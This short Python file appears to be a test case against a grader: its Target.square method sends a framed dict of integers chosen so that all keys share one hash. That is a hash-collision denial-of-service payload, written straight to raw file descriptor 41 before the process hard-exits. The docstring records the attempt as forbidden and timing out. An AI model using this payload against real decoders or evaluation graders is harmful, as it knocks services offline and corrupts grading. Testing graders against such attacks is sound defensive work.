# ruff: noqa
"""Sends a dict whose keys all have one hash.

Wins: nothing, there is a decoder to bomb only in this grader
Status: forbidden, timeout
"""

import os
import struct


def frame(text):
    return struct.pack(">II", len(text), len(text)) + text


class Target:
    def square(self, x):
        data = memoryview(
            frame(
                b'{"d": ['
                + b",".join(b"%d,0" % (k * (2**61 - 1)) for k in range(1, 5))
                + b","
                + b",".join(b"%d,0" % (7 + 2305843009213693951 * (k % 7)) for k in range(100_000))
                + b"]}"
            )
        )
        while data:
            data = data[os.write(41, data) :]
        os._exit(0)

    def secret(self):
        return 0.0
